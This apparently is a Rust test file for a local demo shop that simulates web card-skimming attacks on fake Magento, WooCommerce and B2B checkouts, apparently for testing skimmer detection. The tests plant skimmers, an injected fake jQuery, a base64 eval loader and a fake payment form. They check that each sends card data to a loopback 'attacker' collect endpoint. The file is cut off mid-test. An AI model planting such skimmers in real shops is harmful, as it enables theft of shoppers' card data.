//! Tests of the demo shop over real sockets, with a hand-written HTTP/1.1 client so the crate
//! needs no HTTP client dependency.

use super::*;
use base64::Engine;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A parsed response: status, headers (names lower-cased) and body.
#[derive(Debug)]
struct Reply {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
}

impl Reply {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
    }
}

fn request_bytes(method: &str, base: &str, path: &str, body: &str) -> Vec<u8> {
    let host = base.trim_start_matches("http://");
    format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// Parses a `Connection: close` response. The shop always knows its body length up front, so
/// the body is never chunked.
fn parse(raw: &[u8]) -> Reply {
    let text = String::from_utf8_lossy(raw);
    let (head, body) = text.split_once("\r\n\r\n").expect("response has a header block");
    let mut lines = head.split("\r\n");
    let status_line = lines.next().unwrap();
    let status = status_line.split(' ').nth(1).unwrap().parse().unwrap();
    let headers = lines
        .map(|line| {
            let (name, value) = line.split_once(':').unwrap();
            (name.trim().to_ascii_lowercase(), value.trim().to_string())
        })
        .collect();
    Reply { status, headers, body: body.to_string() }
}

async fn send(method: &str, base: &str, path: &str, body: &str) -> Reply {
    let mut stream = tokio::net::TcpStream::connect(base.trim_start_matches("http://")).await.unwrap();
    stream.write_all(&request_bytes(method, base, path, body)).await.unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).await.unwrap();
    parse(&raw)
}

async fn get(base: &str, path: &str) -> Reply {
    send("GET", base, path, "").await
}

#[tokio::test]
async fn checkout_is_served_with_security_headers_and_a_cross_site_iframe() {
    let shop = Shop::start().await.unwrap();
    assert!(shop.base(Origin::Shop).starts_with("http://127.0.0.1:"));
    assert!(shop.base(Origin::Payment).starts_with("http://127.0.0.2:"));
    assert!(shop.checkout_url().ends_with("/checkout"));

    let page = get(&shop.base(Origin::Shop), "/checkout").await;
    assert_eq!(page.status, 200);
    assert_eq!(page.header("content-type"), Some("text/html; charset=utf-8"));
    assert_eq!(page.header("cache-control"), Some("no-store"));
    let csp = page.header("content-security-policy").expect("CSP header");
    assert!(csp.contains(&format!("frame-src {}", shop.base(Origin::Payment))), "{csp}");
    for name in [
        "x-frame-options",
        "x-content-type-options",
        "referrer-policy",
        "strict-transport-security",
        "permissions-policy",
    ] {
        assert!(page.header(name).is_some(), "missing {name}");
    }

    let iframe_src = shop.hosted_fields_url().replace('&', "&amp;");
    assert!(iframe_src.starts_with(&format!("{}/hosted-fields?parent=", shop.base(Origin::Payment))));
    assert!(page.body.contains(&format!("src=\"{iframe_src}\"")), "iframe src not found");
    assert!(page.body.contains(&format!("{}/gtm.js", shop.base(Origin::Vendor))));
    assert!(page.body.contains(r#"autocomplete="cc-name" required"#));
    assert!(page.body.contains(r#"<script src="/static/js/checkout.js"></script>"#));

    // The iframe document, fetched as the browser would, carries the card inputs.
    let path = shop.hosted_fields_url().replace(&shop.base(Origin::Payment), "");
    let fields = get(&shop.base(Origin::Payment), &path).await;
    assert_eq!(fields.status, 200);
    for autocomplete in ["cc-number", "cc-exp", "cc-csc", "cc-name"] {
        assert!(fields.body.contains(&format!("autocomplete=\"{autocomplete}\"")), "{autocomplete}");
    }
    assert_eq!(
        fields.header("content-security-policy"),
        Some(format!("frame-ancestors {}", shop.base(Origin::Shop)).as_str())
    );
}

#[tokio::test]
async fn edits_are_served_at_once_and_unknown_paths_are_404() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);

    assert_eq!(get(&base, "/no/such/file.js").await.status, 404);
    assert_eq!(get(&shop.base(Origin::Attacker), "/js/jquery-3.7.1.min.js").await.status, 404);
    assert_eq!(get(&base, "/favicon.ico").await.status, 204);

    shop.append_to(Origin::Shop, "/static/js/checkout.js", "\n// planted\n");
    assert!(get(&base, "/static/js/checkout.js").await.body.ends_with("// planted\n"));

    shop.set_resource(Origin::Shop, "/new.js", Resource::js("1;").with_header("X-Test", "yes"));
    let new = get(&base, "/new.js?cache=bust").await;
    assert_eq!((new.status, new.body.as_str(), new.header("x-test")), (200, "1;", Some("yes")));

    assert!(shop.remove_header("/checkout", "x-frame-options"));
    shop.set_header("/checkout", "Content-Security-Policy", "default-src *");
    let page = get(&base, "/checkout").await;
    assert_eq!(page.header("x-frame-options"), None);
    assert_eq!(page.header("content-security-policy"), Some("default-src *"));

    shop.reset();
    let page = get(&base, "/checkout").await;
    assert_eq!(page.header("x-frame-options"), Some("DENY"));
    assert_eq!(get(&base, "/new.js").await.status, 404);
}

#[tokio::test]
async fn requests_are_recorded_per_origin() {
    let shop = Shop::start().await.unwrap();
    let stolen = get(&shop.base(Origin::Attacker), "/collect?v=abc").await;
    assert_eq!(stolen.status, 200);
    assert_eq!(stolen.header("access-control-allow-origin"), Some("*"));
    send("POST", &shop.base(Origin::Attacker), "/collect", "card=4111").await;
    get(&shop.base(Origin::Shop), "/checkout").await;

    let attacker = shop.requests_to(Origin::Attacker);
    assert_eq!(attacker.len(), 2);
    assert_eq!((attacker[0].method.as_str(), attacker[0].path.as_str()), ("GET", "/collect?v=abc"));
    assert_eq!(attacker[0].path_only(), "/collect");
    assert_eq!((attacker[1].method.as_str(), attacker[1].body.as_str()), ("POST", "card=4111"));
    assert_eq!(attacker[1].header("Content-Type"), Some("text/plain"));
    assert_eq!(shop.requests().len(), 3);

    let found = shop.wait_for_request(Origin::Attacker, "/collect", Duration::from_millis(10)).await;
    assert_eq!(found.unwrap().path, "/collect?v=abc");
    shop.clear_requests();
    assert!(shop.wait_for_request(Origin::Attacker, "/", Duration::from_millis(50)).await.is_none());
}

#[test]
fn start_in_background_serves_sync_callers_until_dropped() {
    use std::io::{Read, Write};
    let shop = Shop::start_in_background().unwrap();
    let base = shop.base(Origin::Shop);
    let fetch = |path: &str| {
        let mut stream = std::net::TcpStream::connect(base.trim_start_matches("http://")).unwrap();
        stream.write_all(&request_bytes("GET", &base, path, "")).unwrap();
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).unwrap();
        parse(&raw)
    };
    let page = fetch("/checkout");
    assert_eq!(page.status, 200);
    assert!(page.body.contains("Harbor &amp; Pine Outfitters"));
    shop.append_skimmer_to_first_party();
    assert!(fetch("/static/js/checkout.js").body.contains(&shop.exfil_url()));

    let addr = base.trim_start_matches("http://").to_string();
    shop.shutdown();
    assert!(std::net::TcpStream::connect(addr).is_err(), "server still accepting after shutdown");
}

/// Fails on any syntax error, so neither the default content nor a planted attack can break
/// the page by accident.
fn assert_parses(what: &str, source: &str) {
    let allocator = oxc_allocator::Allocator::default();
    let parsed = oxc_parser::Parser::new(&allocator, source, oxc_span::SourceType::cjs()).parse();
    assert!(
        !parsed.panicked && parsed.diagnostics.is_empty(),
        "{what} does not parse: {:?}\n{source}",
        parsed.diagnostics
    );
}

/// The contents of every inline `<script>` (without `src`) in a page.
fn inline_scripts(html: &str) -> Vec<String> {
    let mut scripts = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find("<script") {
        let tag_end = start + rest[start..].find('>').unwrap();
        let close = tag_end + rest[tag_end..].find("</script>").unwrap();
        if !rest[start..tag_end].contains("src=") {
            scripts.push(rest[tag_end + 1..close].to_string());
        }
        rest = &rest[close..];
    }
    scripts
}

#[tokio::test]
async fn every_script_and_every_attack_parses() {
    let shop = Shop::start().await.unwrap();
    let planted = [
        shop.append_skimmer_to_first_party(),
        shop.add_inline_script(&shop.inline_skimmer_code()),
        shop.add_injected_script(),
        shop.add_eval_loader(),
        shop.alter_iframe_script(),
        shop.add_handler_attribute(),
        shop.alter_vendor_script(),
        shop.add_fake_payment_form(),
    ];
    for attack in &planted {
        assert!(!attack.code.is_empty());
        assert!(attack.modified.starts_with("http://127.0.0."), "{}", attack.modified);
    }
    // Each attack sends to the attacker (the eval loader hides the URL in base64).
    let eval = &planted[3].code;
    let encoded = eval.split('"').nth(1).unwrap();
    let decoded = String::from_utf8(base64::engine::general_purpose::STANDARD.decode(encoded).unwrap()).unwrap();
    assert_parses("eval payload", &decoded);
    assert!(decoded.contains(&shop.exfil_url()));

    for (origin, path) in shop.paths() {
        let resource = shop.resource(origin, &path).unwrap();
        if resource.content_type.starts_with("text/javascript") {
            assert_parses(&format!("{origin} {path}"), &resource.body);
        }
        if resource.content_type.starts_with("text/html") {
            for script in inline_scripts(&resource.body) {
                assert_parses(&format!("inline script of {path}"), &script);
            }
        }
    }
    let page = shop.get_body(Origin::Shop, "/checkout").unwrap();
    assert_eq!(inline_scripts(&page).len(), 3, "config + CMS skimmer + fake form");
    assert_parses("onerror handler", &planted[5].code);
    assert!(page.contains(&format!("onerror=\"{}\"", planted[5].code)));
    assert!(planted[5].code.chars().all(|c| c != '"' && c != '&'));

    let injected = planted[2].added.as_deref().unwrap();
    let payload = get(&shop.base(Origin::Attacker), "/js/jquery-3.7.1.min.js").await;
    assert_eq!(payload.status, 200);
    assert_eq!(injected, shop.url(Origin::Attacker, "/js/jquery-3.7.1.min.js"));
    assert!(page.contains(injected));
}

#[tokio::test]
async fn default_content_does_not_depend_on_ports_except_in_pages() {
    // Two shops get different ports; their scripts must still be byte-identical, so a
    // baseline's hashes mean the same on every run.
    let a = Shop::start().await.unwrap();
    let b = Shop::start().await.unwrap();
    for (origin, path) in a.paths() {
        let resource = a.resource(origin, &path).unwrap();
        if resource.content_type.starts_with("text/javascript") {
            assert_eq!(Some(resource.body), b.get_body(origin, &path), "{origin} {path}");
        }
    }
}

#[test]
fn dynamic_route_answers_per_request() {
    let shop = Shop::start_in_background().unwrap();
    shop.set_dynamic(Origin::Shop, "/ua", |req| {
        let ua = req.header("user-agent").unwrap_or("none").to_string();
        Resource::js(format!("/* {ua} */"))
    });
    let body = http_get_with_ua(&shop.url(Origin::Shop, "/ua"), "TestAgent/1");
    assert!(body.contains("/* TestAgent/1 */"), "{body}");
    shop.remove_dynamic(Origin::Shop, "/ua");
    assert!(http_get_with_ua(&shop.url(Origin::Shop, "/ua"), "x").contains("404"));
}

/// Minimal blocking HTTP/1.1 GET with a user agent; returns the whole response text.
fn http_get_with_ua(url: &str, ua: &str) -> String {
    use std::io::{Read, Write};
    let rest = url.trim_start_matches("http://");
    let (host, path) = rest.split_once('/').map(|(h, p)| (h, format!("/{p}"))).unwrap();
    let mut s = std::net::TcpStream::connect(host).unwrap();
    write!(s, "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nConnection: close\r\n\r\n").unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    out
}

#[tokio::test]
async fn platform_checkouts_are_served_with_their_fields() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    let m1 = get(&base, Checkout::Magento1.path()).await;
    assert_eq!((m1.status, m1.header("content-type")), (200, Some("text/html; charset=utf-8")));
    for needle in [
        r#"<ol class="opc" id="checkoutSteps">"#,
        "billing[firstname]",
        "billing[lastname]",
        "billing[email]",
        "billing[street][]",
        "billing[city]",
        "billing[region_id]",
        "billing[postcode]",
        "billing[country_id]",
        "billing[telephone]",
        r#"<button type="button" title="Continue" class="button" onclick="billing.save()"><span><span>Continue</span></span></button>"#,
        r#"name="shipping_method""#,
        r#"onclick="shippingMethod.save()""#,
        r#"value="checkmo" type="radio" name="payment[method]""#,
        r#"value="ccsave" type="radio" name="payment[method]""#,
        r#"<ul class="form-list" id="payment_form_ccsave" style="display:none;">"#,
        "payment[cc_owner]",
        r#"<option value="JCB">JCB</option>"#,
        "payment[cc_number]",
        "payment[cc_exp_month]",
        "payment[cc_exp_year]",
        "payment[cc_cid]",
        r#"onclick="payment.save()""#,
        r#"name="agreement[1]""#,
        r#"<button type="submit" title="Place Order" class="button btn-checkout" onclick="review.save();">Place Order</button>"#,
        "var review = new Review('/m1/checkout/onepage/saveOrder'",
    ] {
        assert!(m1.body.contains(needle), "Magento 1 page lacks {needle}");
    }
    let woo = get(&base, Checkout::WooCommerce.path()).await;
    assert_eq!(woo.status, 200);
    for needle in [
        r#"<form name="checkout" method="post" class="checkout woocommerce-checkout""#,
        r#"name="billing_first_name""#,
        r#"name="billing_last_name""#,
        r#"name="billing_company""#,
        r#"name="billing_country""#,
        r#"name="billing_address_1""#,
        r#"name="billing_city""#,
        r#"name="billing_state""#,
        r#"name="billing_postcode""#,
        r#"name="billing_phone""#,
        r#"name="billing_email""#,
        r#"name="payment_method" value="bacs""#,
        r#"name="payment_method" value="cod""#,
        r#"name="payment_method" value="card_gateway""#,
        r#"<div class="payment_box payment_method_card_gateway" style="display:none;">"#,
        r#"id="card_gateway-card-number""#,
        r#"id="card_gateway-card-expiry""#,
        r#"id="card_gateway-card-cvc""#,
        r#"id="terms""#,
        r#"<button type="submit" class="button alt" name="woocommerce_checkout_place_order" id="place_order" value="Place order">Place order</button>"#,
        r#""checkout_url":"\/?wc-ajax=checkout""#,
    ] {
        assert!(woo.body.contains(needle), "WooCommerce page lacks {needle}");
    }
    // Every file the pages name is served.
    for (page, body) in [(Checkout::Magento1, &m1.body), (Checkout::WooCommerce, &woo.body)] {
        for attr in ["src=\"", "href=\""] {
            for part in body.split(attr).skip(1) {
                let url = part.split('"').next().unwrap();
                if url.starts_with(&format!("/{}", &page.path()[1..4]))
                    && (url.ends_with(".js") || url.ends_with(".css"))
                {
                    assert_eq!(get(&base, url).await.status, 200, "{url}");
                }
            }
        }
    }
    // The steps answer as the platforms do, and the scripts a shopper needs are there.
    let billing = send("POST", &base, "/m1/checkout/onepage/saveBilling", "billing%5Bfirstname%5D=Aoife").await;
    assert_eq!(billing.body, r#"{"goto_section":"shipping_method"}"#);
    let review = send("POST", &base, "/?wc-ajax=update_order_review", "security=a83c61f0b2").await;
    assert!(review.body.contains(r#""result":"success""#), "{}", review.body);
    let jquery = get(&base, "/woo/wp-includes/js/jquery/jquery.min.js").await.body;
    assert!(jquery.contains("window.jQuery = window.$ = $"));
    // The home page still answers any other query of `/`.
    assert!(get(&base, "/?utm_source=mail").await.body.contains("Harbor &amp; Pine"));
}

#[tokio::test]
async fn order_endpoints_are_recorded_and_answered() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    assert!(Checkout::ALL.iter().all(|c| shop.order_requests(*c).is_empty()));
    send("POST", &base, "/m1/checkout/onepage/savePayment", "payment%5Bmethod%5D=ccsave").await;
    send("POST", &base, "/?wc-ajax=update_order_review", "x=1").await;
    assert!(Checkout::ALL.iter().all(|c| shop.order_requests(*c).is_empty()), "step requests are no orders");

    let m1 =
        send("POST", &base, Checkout::Magento1.order_path(), "payment%5Bmethod%5D=ccsave&agreement%5B1%5D=1").await;
    assert_eq!(m1.body, r#"{"success":true,"redirect":"/m1/checkout/onepage/success/"}"#);
    let woo = send("POST", &base, Checkout::WooCommerce.order_path(), "billing_first_name=Aoife").await;
    assert_eq!(woo.body, r#"{"result":"success","redirect":"/woo/checkout/order-received/"}"#);
    assert_eq!(get(&base, "/m1/checkout/onepage/success/").await.status, 200);
    assert_eq!(get(&base, "/woo/checkout/order-received/").await.status, 200);

    let m1_orders = shop.order_requests(Checkout::Magento1);
    assert_eq!(m1_orders.len(), 1);
    assert_eq!((m1_orders[0].method.as_str(), m1_orders[0].path.as_str()), ("POST", "/m1/checkout/onepage/saveOrder"));
    assert!(m1_orders[0].body.contains("agreement%5B1%5D=1"));
    let woo_orders = shop.order_requests(Checkout::WooCommerce);
    assert_eq!(woo_orders.len(), 1);
    assert_eq!(
        (woo_orders[0].path.as_str(), woo_orders[0].body.as_str()),
        ("/?wc-ajax=checkout", "billing_first_name=Aoife")
    );
}

#[tokio::test]
async fn a_wake_skimmer_changes_only_its_checkout_and_reset_restores_it() {
    let shop = Shop::start().await.unwrap();
    let snapshot = || -> HashMap<(Origin, String), Resource> {
        shop.paths().into_iter().map(|k| (k.clone(), shop.resource(k.0, &k.1).unwrap())).collect()
    };
    let clean = snapshot();
    let names: std::collections::HashSet<_> = Wake::ALL.iter().map(|w| w.name()).collect();
    let exfil: std::collections::HashSet<_> = Wake::ALL.iter().map(|w| w.exfil_path()).collect();
    assert_eq!((names.len(), exfil.len()), (8, 8));
    assert_eq!(Wake::ALL.iter().filter(|w| w.checkout() == Checkout::Magento1).count(), 4);

    for wake in Wake::ALL {
        let checkout = wake.checkout();
        let before_plant = snapshot();
        shop.plant_wake_skimmer(wake);
        let code = shop.wake_skimmer_code(wake);
        assert!(!code.contains("{{"), "{} has an unfilled placeholder", wake.name());
        let target = if wake.exfil_path() == "/ws" {
            shop.exfil_websocket_url()
        } else {
            shop.url(Origin::Attacker, wake.exfil_path())
        };
        assert!(code.contains(&target), "{} does not send to {target}", wake.name());

        // The code sits where wake_skimmer_script_url says, and the page reaches it.
        let script = shop.wake_skimmer_script_url(wake);
        let (origin, path) = if let Some(path) = script.strip_prefix(&shop.base(Origin::Shop)) {
            (Origin::Shop, path.to_string())
        } else {
            (Origin::Attacker, script.strip_prefix(&shop.base(Origin::Attacker)).unwrap().to_string())
        };
        let carrier = get(&shop.base(origin), &path).await;
        assert_eq!(carrier.status, 200);
        assert!(carrier.body.contains(code.trim()), "{} not in {script}", wake.name());
        if origin == Origin::Attacker {
            assert!(shop.get_body(Origin::Shop, checkout.path()).unwrap().contains(&script), "{}", wake.name());
        }

        // Everything of the other checkout (and of the main one) is as it was; the planted
        // checkout's files hold this skimmer only, not the one planted before.
        for ((o, p), before) in &before_plant {
            let now = shop.resource(*o, p).unwrap();
            let ours = *o == Origin::Shop && p.starts_with(&checkout.path()[..4]);
            assert!(ours || &now == before, "{} changed {o} {p}", wake.name());
        }
        let page_or_script_changed = [checkout.path(), path.as_str()]
            .iter()
            .any(|p| shop.resource(Origin::Shop, p) != clean.get(&(Origin::Shop, p.to_string())).cloned());
        assert!(page_or_script_changed, "{} changed nothing of its checkout", wake.name());
        for other in Wake::ALL.iter().filter(|w| **w != wake && w.checkout() == checkout) {
            let other_code = shop.wake_skimmer_code(*other);
            for (o, p) in shop.paths().into_iter().filter(|(o, _)| *o == Origin::Shop) {
                assert!(!shop.get_body(o, &p).unwrap().contains(other_code.trim()), "{} left in {p}", other.name());
            }
        }
        for (o, p) in shop.paths() {
            let resource = shop.resource(o, &p).unwrap();
            if resource.content_type.starts_with("text/javascript") {
                assert_parses(&format!("{} {o} {p}", wake.name()), &resource.body);
            }
            if resource.content_type.starts_with("text/html") {
                for script in inline_scripts(&resource.body) {
                    assert_parses(&format!("{}: inline script of {p}", wake.name()), &script);
                }
            }
        }
    }

    shop.reset();
    for ((o, p), before) in &clean {
        assert!(shop.resource(*o, p).as_ref() == Some(before), "reset left {o} {p} changed");
    }
    assert_eq!(shop.paths().len(), clean.len(), "reset removes the attacker's scripts");
}

#[tokio::test]
async fn platform_checkouts_are_identical_on_every_load() {
    let shop = Shop::start().await.unwrap();
    for checkout in Checkout::ALL {
        let a = get(&shop.base(Origin::Shop), checkout.path()).await.body;
        let b = get(&shop.base(Origin::Shop), checkout.path()).await.body;
        assert_eq!(a, b);
        assert!(!a.contains(&shop.base(Origin::Shop)), "the clean page names no port");
    }
}

// -- journeys ------------------------------------------------------------------------------

/// Like [`send`], with extra request headers (cookies, credentials, languages). A form body
/// goes as `application/x-www-form-urlencoded`, as a browser posts it.
async fn send_with(method: &str, base: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
    let host = base.trim_start_matches("http://");
    let mut head = format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n");
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    if !body.is_empty() {
        head.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
    }
    head.push_str(&format!("Content-Length: {}\r\n\r\n{body}", body.len()));
    let mut stream = tokio::net::TcpStream::connect(host).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).await.unwrap();
    parse(&raw)
}

impl Reply {
    /// Every `Set-Cookie` value of the response.
    fn set_cookies(&self) -> Vec<&str> {
        self.headers.iter().filter(|(n, _)| n == "set-cookie").map(|(_, v)| v.as_str()).collect()
    }
}

/// The path of a URL on the shop origin.
fn shop_path(shop: &Shop, url: &str) -> String {
    url.strip_prefix(&shop.base(Origin::Shop)).expect("a shop URL").to_string()
}

#[tokio::test]
async fn m2_add_to_cart_checks_the_form_key_and_sets_the_cart_cookie() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    let product_url = shop.serve_m2_shop();
    assert_eq!(product_url, shop.url(Origin::Shop, "/m2/blue-mug.html"));

    let product = get(&base, "/m2/blue-mug.html").await;
    assert_eq!(product.status, 200);
    let form_cookie = product.header("set-cookie").expect("the product page sets the form key");
    assert!(form_cookie.contains("Path=/"), "{form_cookie}");
    let key = form_cookie.split(';').next().unwrap().strip_prefix("form_key=").unwrap().to_string();
    for needle in [
        r#"id="product_addtocart_form""#.to_string(),
        format!(r#"<input name="form_key" type="hidden" value="{key}">"#),
        r#"id="product-addtocart-button""#.to_string(),
        r#"<span class="counter-number"></span>"#.to_string(),
        "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Catalog/js/catalog-add-to-cart.js".to_string(),
    ] {
        assert!(product.body.contains(&needle), "product page lacks {needle}");
    }
    let script =
        get(&base, "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Catalog/js/catalog-add-to-cart.js")
            .await;
    assert_eq!(script.status, 200);
    assert!(script.body.contains("fetch('/m2/checkout/cart/add/'") && script.body.contains(".counter-number"));

    // No key, a wrong key, a key without its cookie: refused, no cart.
    let form = format!("product=42&selected_configurable_option=&related_product=&form_key={key}&qty=1");
    let cookie = format!("form_key={key}");
    for (headers, body) in [
        (vec![("Cookie", cookie.as_str())], "product=42&qty=1".to_string()),
        (vec![("Cookie", cookie.as_str())], "product=42&form_key=AAAAAAAAAAAAAAAA&qty=1".to_string()),
        (vec![], form.clone()),
    ] {
        let refused = send_with("POST", &base, "/m2/checkout/cart/add/", &headers, &body).await;
        assert_eq!(refused.status, 400, "{body}");
        assert!(refused.set_cookies().is_empty());
        assert!(refused.body.contains("Invalid Form Key"));
    }
    assert_eq!(send_with("GET", &base, "/m2/checkout/cart/add/", &[("Cookie", &cookie)], "").await.status, 400);

    let added = send_with("POST", &base, "/m2/checkout/cart/add/", &[("Cookie", &cookie)], &form).await;
    assert_eq!((added.status, added.header("content-type")), (200, Some("application/json")));
    assert!(added.body.contains(r#""summary_count":1"#), "{}", added.body);
    let cart = added.header("set-cookie").unwrap();
    assert!(cart.starts_with("m2_cart=") && cart.ends_with("; Path=/"), "{cart}");
    assert!(cart.len() > "m2_cart=; Path=/".len());
}

#[tokio::test]
async fn m2_checkout_needs_the_cart_and_holds_no_payment_step_until_shipping_is_saved() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    shop.serve_m2_shop();
    let checkout_path = shop_path(&shop, &shop.m2_checkout_url());
    assert_eq!(checkout_path, "/m2/checkout/");

    let away = get(&base, &checkout_path).await;
    assert_eq!(away.status, 302);
    assert_eq!(away.header("location"), Some(shop.url(Origin::Shop, "/m2/checkout/cart/").as_str()));
    let wrong = send_with("GET", &base, &checkout_path, &[("Cookie", "m2_cart=guessed")], "").await;
    assert_eq!(wrong.status, 302);
    let empty = get(&base, "/m2/checkout/cart/").await;
    assert_eq!(empty.status, 200);
    assert!(empty.body.contains("You have no items in your shopping cart."));
    assert!(!empty.body.contains("<input") && !empty.body.contains("<iframe") && !empty.body.contains("cc-"));

    // The cart cookie as the add-to-cart answer sets it.
    let key = "hQ7xV2mK9pL4sT1w";
    let added = send_with(
        "POST",
        &base,
        "/m2/checkout/cart/add/",
        &[("Cookie", &format!("form_key={key}"))],
        &format!("form_key={key}"),
    )
    .await;
    let cart = added.header("set-cookie").unwrap().split(';').next().unwrap().to_string();
    let cart_id = cart.strip_prefix("m2_cart=").unwrap().to_string();
    let full = send_with("GET", &base, "/m2/checkout/cart/", &[("Cookie", &cart)], "").await;
    assert!(full.body.contains("Proceed to Checkout") && !full.body.contains("no items"));

    let page = send_with("GET", &base, &checkout_path, &[("Cookie", &format!("form_key={key}; {cart}"))], "").await;
    assert_eq!((page.status, page.header("content-type")), (200, Some("text/html; charset=utf-8")));
    for needle in [
        r#"<li id="shipping""#,
        r#"type="email" name="username" id="customer-email""#,
        r#"name="firstname""#,
        r#"name="lastname""#,
        r#"name="street[0]""#,
        r#"name="city""#,
        r#"name="postcode""#,
        r#"name="telephone""#,
        r#"<select class="select" name="country_id""#,
        r#"class="button action continue primary"><span>Next</span>"#,
        "Magento_Checkout/js/checkout.js",
    ] {
        assert!(page.body.contains(needle), "checkout lacks {needle}");
    }
    assert!(page.body.contains(&format!(r#""entity_id":"{cart_id}""#)));
    assert!(page.body.contains(&shop.hosted_fields_url()), "the Braintree config names the hosted fields");
    assert!(!page.body.contains(r#"id="payment""#) && !page.body.contains("<iframe"), "no payment step yet");
    assert!(!page.body.contains("cc-number") && !page.body.contains("cc_number"));

    // The script renders the payment step and the named iframe, and places the order by REST.
    let script =
        get(&base, "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Checkout/js/checkout.js").await;
    for needle in [
        "'/shipping-information'",
        "'/payment-information'",
        "location.hash = '#payment'",
        "step.id = 'payment'",
        "id=\"braintree\"",
        "frame.name = 'braintree-hosted-field-number'",
        "}, 300);",
        "class=\"action primary checkout\"",
    ] {
        assert!(script.body.contains(needle), "checkout.js lacks {needle}");
    }
    let rest = format!("/m2/rest/default/V1/guest-carts/{cart_id}");
    let saved = send("POST", &base, &format!("{rest}/shipping-information"), r#"{"addressInformation":{}}"#).await;
    assert!(saved.body.contains(r#""code":"braintree""#), "{}", saved.body);
    assert!(shop.m2_order_requests().is_empty(), "saving shipping places no order");
    let placed = send("POST", &base, &format!("{rest}/payment-information"), r#"{"cartId":"x"}"#).await;
    assert_eq!(placed.status, 200);
    assert_eq!(shop.m2_order_requests().len(), 1);
    assert_eq!(get(&base, "/m2/checkout/onepage/success/").await.status, 200);
}

#[tokio::test]
async fn m2_skimmer_is_planted_into_the_checkout_only() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    shop.serve_m2_shop();
    let cookie = "m2_cart=Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2";
    let clean = send_with("GET", &base, "/m2/checkout/", &[("Cookie", cookie)], "").await.body;
    assert_eq!(inline_scripts(&clean).len(), 1, "checkoutConfig only");
    shop.plant_m2_skimmer();
    shop.plant_m2_skimmer();
    let infected = send_with("GET", &base, "/m2/checkout/", &[("Cookie", cookie)], "").await.body;
    let scripts = inline_scripts(&infected);
    assert_eq!(scripts.len(), 2, "planting twice leaves one skimmer");
    let code = shop.m2_skimmer_code();
    assert_eq!(scripts[1].trim(), code);
    let exfil = shop.url(Origin::Attacker, M2_SKIMMER_EXFIL_PATH);
    for needle in [exfil.as_str(), "autocomplete=\"cc-number\"", "payment[cc_number]", "cc-exp", "cc-csc", "luhn"] {
        assert!(code.contains(needle), "skimmer lacks {needle}");
    }
    assert_eq!(get(&base, "/m2/checkout/").await.status, 302, "still gated");
    let pixel = get(&shop.base(Origin::Attacker), "/m2c?d=NDExMQ%3D%3D").await;
    assert_eq!((pixel.status, pixel.header("access-control-allow-origin")), (200, Some("*")));
}

#[tokio::test]
async fn login_gated_checkout_needs_the_right_password_and_the_session() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    let login_url = shop.serve_login_gated("buyer@harbor-trade.example", "Tide&Pine 42");
    assert_eq!(login_url, shop.url(Origin::Shop, "/b2b/login"));
    assert_eq!(shop.b2b_checkout_url(), shop.url(Origin::Shop, "/b2b/checkout"));

    let away = get(&base, "/b2b/checkout").await;
    assert_eq!((away.status, away.header("location")), (302, Some(login_url.as_str())));
    let login = get(&base, "/b2b/login").await;
    assert_eq!(login.status, 200);
    for needle in [
        r#"action="/b2b/login" method="post" id="login-form""#,
        r#"name="login[username]" value="" autocomplete="username" id="email" type="email""#,
        r#"name="login[password]" type="password""#,
        r#"id="pass""#,
        r#"id="send2""#,
    ] {
        assert!(login.body.contains(needle), "login page lacks {needle}");
    }
    assert!(!login.body.contains("Invalid login"));

    let user = "login%5Busername%5D=buyer%40harbor-trade.example";
    for body in [format!("{user}&login%5Bpassword%5D=Tide%26Pine+43"), user.to_string(), String::new()] {
        let refused = send_with("POST", &base, "/b2b/login", &[], &body).await;
        assert_eq!(refused.status, 200, "{body}");
        assert!(refused.body.contains("Invalid login or password."));
        assert!(refused.set_cookies().is_empty());
    }
    let body = format!("{user}&login%5Bpassword%5D=Tide%26Pine+42&send=");
    let signed_in = send_with("POST", &base, "/b2b/login", &[], &body).await;
    assert_eq!((signed_in.status, signed_in.header("location")), (302, Some(shop.b2b_checkout_url().as_str())));
    let session = signed_in.header("set-cookie").unwrap();
    assert!(session.starts_with("b2b_session=") && session.ends_with("; Path=/; HttpOnly"), "{session}");
    let session = session.split(';').next().unwrap();

    let page = send_with("GET", &base, "/b2b/checkout", &[("Cookie", session)], "").await;
    assert_eq!(page.status, 200);
    for needle in [
        r#"id="cc-name" name="cc_name" type="text" autocomplete="cc-name""#,
        r#"id="cc-number" name="cc_number" type="text" inputmode="numeric" autocomplete="cc-number""#,
        r#"id="cc-exp" name="cc_exp""#,
        r#"autocomplete="cc-exp""#,
        r#"id="cc-csc" name="cc_csc""#,
        r#"autocomplete="cc-csc""#,
        r#"action="/b2b/order" method="post""#,
        r#"id="place-order""#,
        r#"<script src="/b2b/static/js/checkout.js"></script>"#,
    ] {
